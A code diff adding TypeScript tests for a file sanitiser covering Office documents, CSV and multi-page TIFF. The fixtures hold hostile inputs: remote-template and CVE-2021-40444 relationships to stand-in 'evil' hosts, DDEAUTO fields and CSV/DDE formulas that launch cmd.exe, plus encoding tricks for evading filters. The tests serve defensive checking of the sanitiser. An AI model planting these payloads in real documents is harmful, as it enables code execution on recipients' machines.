@@ -6,6 +6,7 @@
  */
 import { randomBytes } from '../crypto/primitives.js';
 import { Readable } from 'node:stream';
+import fc from 'fast-check';
 import { XMLValidator } from 'fast-xml-parser';
 import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
 import sharp from 'sharp';
@@ -16,10 +17,18 @@ import { ImageSanitizer } from './image.sanitizer.js';
 import { OoxmlSanitizer } from './ooxml.sanitizer.js';
 import { PdfSanitizer } from './pdf.sanitizer.js';
 import { SanitizeError } from './sanitizer.js';
-import { TextSanitizer } from './text.sanitizer.js';
+import { defuseCsvFormulas, TextSanitizer } from './text.sanitizer.js';
 import { docm, W, zipOf } from '../../test/support/office-fixtures.js';
 
 const MiB = 1024 * 1024;
+const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const SML = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
+const TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
+const rels = (body: string) =>
+  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${body}</Relationships>`;
+/** A Word complex field: begin, the code, separate, the shown result, end. */
+const field = (instr: string, result = '結果') =>
+  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>${instr}</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>${result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
 
 function sourceOf(name: string, data: Buffer, detectedMime: string | null): SanitizeSource {
   return {
@@ -122,16 +131,173 @@ describe('OOXML 無害化 (MAL-07)', () => {
     expect((await unzip(out)).get('word/document.xml')).toContain('<w:t>ok</w:t>');
   });
 
-  it('edits hostile XML in one pass: unclosed tags repeated a hundred thousand times do not stall it [MAL-05]', async () => {
-    const hostile = await zipOf({
-      '[Content_Types].xml': '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
+  it('edits hostile XML in one pass and then refuses it as malformed: unclosed tags repeated a hundred thousand times do not stall it [MAL-05]', async () => {
+    const hostile: Record<string, string> = {
       'xl/worksheets/sheet1.xml': '<f '.repeat(100_000) + '<definedName '.repeat(50_000),
       'xl/_rels/workbook.xml.rels': '<Relationships><Relationship '.repeat(30_000),
       'word/document.xml': '<w:fldChar w:fldCharType="begin"/>'.repeat(20_000) + '<w:fldSimple '.repeat(50_000),
-    });
-    const { outcome } = await run(new OoxmlSanitizer(), sourceOf('a.xlsx', hostile, 'application/zip'));
-    expect(outcome.result).toBe('sanitised');
+    };
+    for (const [name, xml] of Object.entries(hostile)) {
+      const pkg = await zipOf({ '[Content_Types].xml': TYPES, [name]: xml });
+      await expect(run(new OoxmlSanitizer(), sourceOf('a.xlsx', pkg, 'application/zip')), name).rejects.toMatchObject({
+        code: 'malformed',
+        message: expect.stringContaining(name),
+      });
+    }
   }, 15_000);
+
+  it('reads relationships and content types as Office does: quote style, spacing, prefixes and character references hide nothing [MAL-07]', async () => {
+    const pkg = await zipOf({
+      '[Content_Types].xml': `<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'><Override PartName = '/word/document.xml' ContentType = 'application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>`,
+      'word/document.xml': `<w:document ${W}><w:body><w:p><w:r><w:t>本文</w:t></w:r></w:p></w:body></w:document>`,
+      'word/settings.xml': `<w:settings ${W}><w:attachedTemplate r:id='rId1'/><w:zoom w:percent="100"/></w:settings>`,
+      // Remote template macro loading, with single quotes.
+      'word/_rels/settings.xml.rels': rels(
+        `<Relationship Id='rId1' Type='${REL}/attachedTemplate' Target='https://evil/t.dotm' TargetMode='External'/>`,
+      ),
+      'word/_rels/document.xml.rels': rels(
+        // CVE-2021-40444: spaces around `=`.
+        `<Relationship Id = "rId9" Type = "${REL}/oleObject" Target = "mhtml:http://evil/x.html!x-usc:http://evil/x.html" TargetMode = "External"/>` +
+          `<pr:Relationship xmlns:pr="http://schemas.openxmlformats.org/package/2006/relationships" Id="rId10" Type="${REL}/frame" Target="https://evil/frame.html" TargetMode="External"/>` +
+          `<Relationship Id="rId11" Type="${REL}/image" Target="https://evil/&#x70;ixel.png" TargetMode="&#69;xternal"/>` +
+          `<Relationship Id="rId12" Type="${REL}/hyperlink" Target="&#102;ile:///C:/Windows/System32/calc.exe" TargetMode="External"/>` +
+          `<Relationship Id="rId13" Type="${REL}/hyperlink" Target="https://www.city.example.lg.jp/?a=1&amp;b=2" TargetMode="External"/>`,
+      ),
+    });
+    const { outcome, out } = await run(new OoxmlSanitizer(), sourceOf('報告.docm', pkg, 'application/zip'));
+    // The attached template's element had to go from settings.xml.
+    expect(outcome).toMatchObject({ result: 'sanitised_with_loss', name: '報告.docx' });
+    if (outcome.result !== 'sanitised_with_loss') throw new Error('unexpected');
+    expect(outcome.removed).toEqual(
+      expect.arrayContaining([
+        { kind: 'external_relationship', count: 1, detail: 'attachedTemplate: https://evil/t.dotm' },
+        { kind: 'external_relationship', count: 1, detail: 'oleObject: mhtml:http://evil/x.html!x-usc:http://evil/x.html' },
+        { kind: 'external_relationship', count: 1, detail: 'frame: https://evil/frame.html' },
+        { kind: 'external_relationship', count: 1, detail: 'image: https://evil/pixel.png' },
+        { kind: 'external_link', count: 1, detail: 'file:///C:/Windows/System32/calc.exe' },
+        { kind: 'macro_enabled_type', count: 1, detail: 'application/vnd.ms-word.document.macroEnabled.main+xml' },
+      ]),
+    );
+    const parts = await unzip(out);
+    expect(parts.get('word/_rels/settings.xml.rels')).not.toContain('Relationship ');
+    const docRels = parts.get('word/_rels/document.xml.rels')!;
+    expect(docRels).not.toMatch(/evil|calc\.exe|oleObject|frame|image/);
+    expect(docRels).toContain(`<Relationship Id="rId12" Type="${REL}/hyperlink" Target="#" TargetMode="External"/>`);
+    expect(docRels).toContain('Target="https://www.city.example.lg.jp/?a=1&#38;b=2"');
+    expect(parts.get('word/settings.xml')).not.toContain('attachedTemplate');
+    expect(parts.get('word/settings.xml')).toContain('<w:zoom w:percent="100"/>');
+    expect(parts.get('[Content_Types].xml')).toContain(
+      '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>',
+    );
+    for (const [name, xml] of parts) if (/\.(xml|rels)$/.test(name)) expect(XMLValidator.validate(xml), name).toBe(true);
+  });
+
+  it('decodes character references before judging fields and formulas: &#68;DEAUTO and DDE formulas go [MAL-07]', async () => {
+    const docx = await zipOf({
+      '[Content_Types].xml': TYPES,
+      'word/document.xml': `<w:document ${W}><w:body>${field(
+        '<w:instrText>&#68;DEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>',
+      )}<w:p><w:fldSimple w:instr='&#x44;DE Excel Sheet1'><w:r><w:t>簡易</w:t></w:r></w:fldSimple></w:p>${field(
+        '<w:instrText> PAGE </w:instrText>',
+        '1',
+      )}</w:body></w:document>`,
+    });
+    const word = await run(new OoxmlSanitizer(), sourceOf('a.docx', docx, 'application/zip'));
+    expect(word.outcome).toMatchObject({
+      result: 'sanitised_with_loss',
+      removed: [
+        { kind: 'dde_field', count: 1, detail: 'DDEAUTO' },
+        { kind: 'dde_field', count: 1, detail: 'DDE' },
+      ],
+    });
+    const doc = (await unzip(word.out)).get('word/document.xml')!;
+    expect(doc).not.toMatch(/DEAUTO|cmd\.exe|fldSimple/);
+    for (const kept of ['結果', '簡易', '<w:instrText> PAGE </w:instrText>']) expect(doc).toContain(kept);
+
+    const xlsx = await zipOf({
+      '[Content_Types].xml': TYPES,
+      'xl/worksheets/sheet1.xml': `<x:worksheet xmlns:x="${SML}"><x:sheetData><x:row r="1"><x:c r="A1"><x:f>&#68;DE("cmd","/c calc","A0")</x:f><x:v>0</x:v></x:c><x:c r="A2"><x:f>cmd&#124;' /C calc'!A0</x:f><x:v>0</x:v></x:c><x:c r="A3"><x:f>=1+cmd|' /C calc'!A0</x:f><x:v>0</x:v></x:c><x:c r="A4"><x:f>SUM(1,2)</x:f><x:v>3</x:v></x:c></x:row></x:sheetData></x:worksheet>`,
+      'xl/workbook.xml': `<workbook xmlns="${SML}"><definedNames><definedName name='Auto_Open'>Sheet1!$A$1</definedName><definedName name="x">cmd|' /C calc'!A0</definedName><definedName name="ok">Sheet1!$A$4</definedName></definedNames></workbook>`,
+    });
+    const excel = await run(new OoxmlSanitizer(), sourceOf('a.xlsx', xlsx, 'application/zip'));
+    expect(excel.outcome).toMatchObject({
+      result: 'sanitised_with_loss',
+      removed: [
+        { kind: 'dde_field', count: 3, detail: 'formula' },
+        { kind: 'auto_macro_name', count: 1 },
+        { kind: 'dde_field', count: 1, detail: 'name' },
+      ],
+    });
+    const parts = await unzip(excel.out);
+    const sheet = parts.get('xl/worksheets/sheet1.xml')!;
+    expect(sheet).not.toMatch(/DE\(|cmd/);
+    expect(sheet).toContain('<x:f>SUM(1,2)</x:f>');
+    expect(parts.get('xl/workbook.xml')).not.toMatch(/Auto_Open|cmd/);
+    expect(parts.get('xl/workbook.xml')).toContain('<definedName name="ok">');
+  });
+
+  it('fails instead of passing a field, formula or reference written in a form it does not rewrite [MAL-07]', async () => {
+    const W_NS = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
+    const dde = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"';
+    const cases: Array<[string, Record<string, string>]> = [
+      [
+        'CDATA field code',
+        {
+          'word/document.xml': `<w:document ${W}><w:body>${field(`<w:instrText><![CDATA[${dde}]]></w:instrText>`)}</w:body></w:document>`,
+        },
+      ],
+      [
+        'comment inside the field code',
+        {
+          'word/document.xml': `<w:document ${W}><w:body>${field(`<w:instrText>DDE<!-- -->AUTO calc</w:instrText>`)}</w:body></w:document>`,
+        },
+      ],
+      [
+        'another prefix',
+        {
+          'word/document.xml': `<ns:document xmlns:ns="${W_NS}"><ns:body><ns:p><ns:r><ns:fldChar ns:fldCharType="begin"/></ns:r><ns:r><ns:instrText>${dde}</ns:instrText></ns:r><ns:r><ns:fldChar ns:fldCharType="end"/></ns:r></ns:p></ns:body></ns:document>`,
+        },
+      ],
+      [
+        'CDATA formula',
+        {
+          'xl/worksheets/sheet1.xml': `<worksheet xmlns="${SML}"><sheetData><row><c><f><![CDATA[cmd|' /C calc'!A0]]></f></c></row></sheetData></worksheet>`,
+        },
+      ],
+      [
+        'reference with another prefix',
+        {
+          'word/settings.xml': `<w:settings ${W} xmlns:rel="${REL}"><w:attachedTemplate rel:id="rId1"/></w:settings>`,
+          'word/_rels/settings.xml.rels': rels(
+            `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="https://evil/t.dotm" TargetMode="External"/>`,
+          ),
+        },
+      ],
+    ];
+    for (const [what, parts] of cases) {
+      const pkg = await zipOf({ '[Content_Types].xml': TYPES, ...parts });
+      await expect(run(new OoxmlSanitizer(), sourceOf('a.docx', pkg, 'application/zip')), what).rejects.toMatchObject({
+        name: 'SanitizeError',
+        code: 'unsupported',
+      });
+    }
+    // A DTD (entities Office would not expand the same way) or XML that is not well-formed fails as malformed.
+    const malformed: Array<Record<string, string>> = [
+      {
+        'word/document.xml': `<!DOCTYPE d [<!ENTITY x "DDEAUTO">]><w:document ${W}><w:body>${field('<w:instrText>&x; calc</w:instrText>')}</w:body></w:document>`,
+      },
+      {
+        'word/_rels/document.xml.rels': rels(`<Relationship Id='rId1' Type='${REL}/oleObject' Target='x' TargetMode='External'>`),
+      },
+      { '[Content_Types].xml': '<Types><Override PartName="/a.xml"></Types>' },
+    ];
+    for (const parts of malformed) {
+      const pkg = await zipOf({ '[Content_Types].xml': TYPES, ...parts });
+      await expect(run(new OoxmlSanitizer(), sourceOf('a.docx', pkg, 'application/zip'))).rejects.toMatchObject({
+        code: 'malformed',
+      });
+    }
+  });
 
   it('stops instead of hanging when the rebuilt file cannot be stored [MAL-05]', async () => {
     const big = await zipOf({
@@ -289,6 +455,83 @@ describe('image and text 無害化 (MAL-07)', () => {
     expect(outcome.removed).toContainEqual({ kind: 'csv_formula', count: 2 });
   });
 
+  it('defuses every formula cell in CSV: a digit after the sign, quoted cells, CR/LF/CRLF rows; plain numbers stay [MAL-07]', async () => {
+    const csv = Buffer.from(
+      'id,式\r\n' +
+        "1,=1+cmd|' /C calc'!A0\r\n" +
+        "2,-2+3+cmd|' /C calc'!A0\r" +
+        '3,=2+cmd|\'/c calc\'!A1,"=1+1","\t=cmd"\n' +
+        '4,"a,\n=not a cell start",@x\n' +
+        '5,-12,"-1,234",+3.5,-1.5E+3,-5%,-\n',
+    );
+    const { outcome, out } = await run(new TextSanitizer(), sourceOf('表.csv', csv, null));
+    expect(out.toString('utf8')).toBe(
+      '\ufeffid,式\r\n' +
+        "1,'=1+cmd|' /C calc'!A0\r\n" +
+        "2,'-2+3+cmd|' /C calc'!A0\r" +
+        "3,'=2+cmd|'/c calc'!A1,\"'=1+1\",\"'\t=cmd\"\n" +
+        '4,"a,\n=not a cell start",\'@x\n' +
+        '5,-12,"-1,234",+3.5,-1.5E+3,-5%,-\n',
+    );
+    expect(outcome).toMatchObject({ result: 'sanitised', removed: [{ kind: 'csv_formula', count: 6 }] });
+    const tsv = await run(new TextSanitizer(), sourceOf('表.tsv', Buffer.from("a\t=1+cmd|' /C calc'!A0\r\n"), null));
+    expect(tsv.out.toString('utf8')).toBe("\ufeffa\t'=1+cmd|' /C calc'!A0\r\n");
+  });
+
+  it('leaves no CSV cell a spreadsheet reads as a formula and changes nothing else (property) [MAL-07]', () => {
+    const cell = fc.string({
+      unit: fc.constantFrom('=', '+', '-', '@', '1', '2', '.', ',', '"', '\t', '\r', '\n', 'a', ' '),
+      maxLength: 8,
+    });
+    const table = fc.array(fc.array(fc.tuple(cell, fc.boolean()), { minLength: 1, maxLength: 4 }), {
+      minLength: 1,
+      maxLength: 4,
+    });
+    fc.assert(
+      fc.property(table, fc.constantFrom('\r\n', '\n', '\r'), (rows, eol) => {
+        const text = rows
+          .map((r) => r.map(([c, q]) => (q || /[",\t\r\n]/.test(c) ? `"${c.replaceAll('"', '""')}"` : c)).join(','))
+          .join(eol);
+        const back = parseCsv(defuseCsvFormulas(text).text);
+        expect(back.length).toBe(rows.length);
+        rows.forEach((r, i) =>
+          r.forEach(([c], j) => {
+            const got = back[i]![j]!;
+            if (got !== c) expect([got, /^[=+\-@\t\r]/.test(c)]).toEqual([`'${c}`, true]);
+            if (/^[=+\-@\t\r]/.test(got)) expect(got).toMatch(/^(?:[+-][\d.,]+(?:[eE][+-]?\d+)?%?|-)$/);
+          }),
+        );
+      }),
+    );
+  });
+
+  it('keeps every page of a multi-page TIFF (faxes) [MAL-07]', async () => {
+    const tiff = await sharp(await colourPages(), { join: { animated: true } })
+      .tiff()
+      .toBuffer();
+    expect((await sharp(tiff).metadata()).pages).toBe(3);
+    const { outcome, out } = await run(new ImageSanitizer(), sourceOf('fax.tif', tiff, 'image/tiff'));
+    expect(outcome).toMatchObject({ result: 'sanitised', contentType: 'image/tiff', removed: [] });
+    const meta = await sharp(out).metadata();
+    expect([meta.format, meta.pages, meta.width, meta.height]).toEqual(['tiff', 3, 40, 30]);
+    for (const i of [0, 1, 2]) {
+      const { r, g, b } = (await sharp(out, { page: i }).stats()).dominant;
+      expect([r, g, b].indexOf(Math.max(r, g, b)), `page ${i + 1}`).toBe(i);
+    }
+  });
+
+  it('fails a multi-page TIFF it cannot rebuild whole instead of dropping pages [MAL-07]', async () => {
+    // Turning a multi-page image upright by 90° is not supported: the file is held, not cut to its first page.
+    const sideways = await sharp(await colourPages(), { join: { animated: true } })
+      .withMetadata({ orientation: 6 })
+      .tiff()
+      .toBuffer();
+    await expect(run(new ImageSanitizer(), sourceOf('fax.tif', sideways, 'image/tiff'))).rejects.toMatchObject({
+      code: 'malformed',
+      message: expect.stringContaining('multi-page image (3 pages)'),
+    });
+  });
+
   it('turns Shift_JIS CSV into UTF-8 with a BOM and drops control characters [MAL-07]', async () => {
     const sjis = Buffer.from([0x8e, 0x73, 0x96, 0xaf, 0x2c, 0x31, 0x0d, 0x0a, 0x1b, 0x5b, 0x32, 0x4a]); // 市民,1\r\n ESC[2J
     const { outcome, out } = await run(new TextSanitizer(), sourceOf('名簿.csv', sjis, null));
@@ -311,3 +554,40 @@ describe('engine choice (MAL-07)', () => {
     expect(pickSanitizer(engines, { name: 'a.doc', detectedMime: 'application/x-cfb' })).toBeNull();
   });
 });
+
+/** Three 40×30 pages: red, green, blue. */
+function colourPages(): Promise<Buffer[]> {
+  return Promise.all(
+    ['#ff0000', '#00ff00', '#0000ff'].map((background) =>
+      sharp({ create: { width: 40, height: 30, channels: 3, background } })
+        .png()
+        .toBuffer(),
+    ),
+  );
+}
+
+/** CSV as a spreadsheet reads it (RFC 4180 quoting; CRLF, LF or CR ends a row), to check the CSV defusing against. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [[]];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c !== '"') cell += c;
+      else if (text[i + 1] === '"') cell += text[++i];
+      else quoted = false;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') {
+      rows.at(-1)!.push(cell);
+      cell = '';
+    } else if (c === '\r' || c === '\n') {
+      if (c === '\r' && text[i + 1] === '\n') i++;
+      rows.at(-1)!.push(cell);
+      rows.push([]);
+      cell = '';
+    } else cell += c;
+  }
+  rows.at(-1)!.push(cell);
+  return rows;
+}
